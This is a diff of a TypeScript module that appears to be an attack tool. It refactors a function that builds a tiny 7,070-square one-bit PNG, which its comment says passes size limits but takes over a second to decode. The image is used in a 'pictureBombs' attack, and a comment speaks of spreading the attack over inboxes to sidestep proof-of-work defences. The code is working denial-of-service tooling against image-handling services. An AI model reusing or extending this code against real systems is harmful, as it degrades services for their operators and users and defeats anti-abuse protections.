@@ -2,7 +2,7 @@ import { readFile } from 'node:fs/promises';
 import { request, type ClientRequest } from 'node:http';
 import { connect } from 'node:net';
 import { setTimeout as delay } from 'node:timers/promises';
-import { crc32, deflateSync } from 'node:zlib';
+import { squarePng } from './png.js';
 
 export interface AttackOrder {
   attack: Attack;
@@ -222,19 +222,7 @@ async function pictureBombs({ userId }: AttackOrder) {
 /** 6 kB, 7,070² pixels of one bit: within all limits, more than a second to decode. */
 function largestPicture(): Buffer {
   const side = 7_070;
-  const header = Buffer.alloc(13);
-  header.writeUInt32BE(side, 0);
-  header.writeUInt32BE(side, 4);
-  header[8] = 1;
-  const rows = deflateSync(Buffer.alloc((1 + Math.ceil(side / 8)) * side), { level: 9 });
-  const chunk = (name: string, data: Buffer): Buffer => {
-    const [named, length, sum] = [Buffer.concat([Buffer.from(name), data]), Buffer.alloc(4), Buffer.alloc(4)];
-    length.writeUInt32BE(data.length);
-    sum.writeUInt32BE(crc32(named));
-    return Buffer.concat([length, named, sum]);
-  };
-  const start = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
-  return Buffer.concat([start, chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
+  return squarePng(side, { depth: 1, colour: 0 }, Buffer.alloc((1 + Math.ceil(side / 8)) * side), 9);
 }
 
 /** Spread over inboxes to avoid proofs of work. As a visitor: only networks count. */
